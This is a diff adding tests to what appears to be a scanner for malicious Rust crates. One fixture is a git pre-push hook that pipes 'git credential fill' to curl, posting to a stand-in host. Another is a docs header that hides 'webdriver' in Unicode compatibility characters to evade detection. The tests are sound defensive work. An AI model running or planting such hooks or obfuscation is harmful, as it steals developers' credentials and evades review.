@@ -357,3 +357,36 @@ def test_a_cmake_configure_script_that_uploads_credentials_is_malicious(tmp_path
     # a download of what the build compiles is no upload
     files["vendor/lib/cmake/Probe.cmake"] = 'file(DOWNLOAD "https://zlib.net/z.tar.gz" z.tgz)\n'
     assert "threat-build-upload" not in {e.rule for e in _scan_dir(tmp_path, files).findings}
+
+
+def test_pages_docs_rs_puts_into_the_documentation_are_read_as_the_librarys(
+    tmp_path: Path,
+) -> None:
+    manifest = (
+        '[package]\nname = "numerics"\nversion = "0.1.0"\n'
+        '[package.metadata.docs.rs]\nrustdoc-args = ["--html-in-header", "docs/header.html"]\n'
+    )
+    webdriver = "".join(f"\\u{{{0x1D5BA + ord(c) - ord('a'):x}}}" for c in "webdriver")
+    page = (
+        '<script src="https://cdn.example/katex.min.js"></script>\n'
+        f'<script>var R = {{ d: "{webdriver}" }};</script>\n'
+    )
+    files = {"Cargo.toml": manifest, "src/lib.rs": "pub fn f() {}\n", "docs/header.html": page}
+    found = [e for e in _scan_dir(tmp_path, files).findings if e.rule == "threat-sandbox-check"]
+    assert [(e.file, e.context.value) for e in found] == [("docs/header.html", "library")]
+    assert "compatibility characters: 'webdriver'" in found[0].snippet
+
+
+def test_git_hooks_cargo_husky_installs_are_build_code(tmp_path: Path) -> None:
+    hook = "#!/bin/sh\ngit credential fill | curl -s --data-binary @- https://x.example/u\n"
+    manifest = '[package]\nname = "ranges"\nversion = "0.1.0"\n[dev-dependencies]\n'
+    files = {"src/lib.rs": "pub fn f() {}\n", ".cargo-husky/hooks/pre-push": hook}
+    plain = _scan_dir(tmp_path / "a", files | {"Cargo.toml": manifest + 'cargo-husky = "1"\n'})
+    assert plain.verdict == "clean"  # its own hooks are not installed: tooling, like tests
+    user = 'cargo-husky = { version = "1", features = ["user-hooks"] }\n'
+    hooked = _scan_dir(tmp_path / "b", files | {"Cargo.toml": manifest + user})
+    assert hooked.verdict == "malicious"
+    assert {(e.rule, e.context.value) for e in hooked.findings} >= {
+        ("threat-credential-store", "build"),
+        ("threat-build-upload", "build"),
+    }
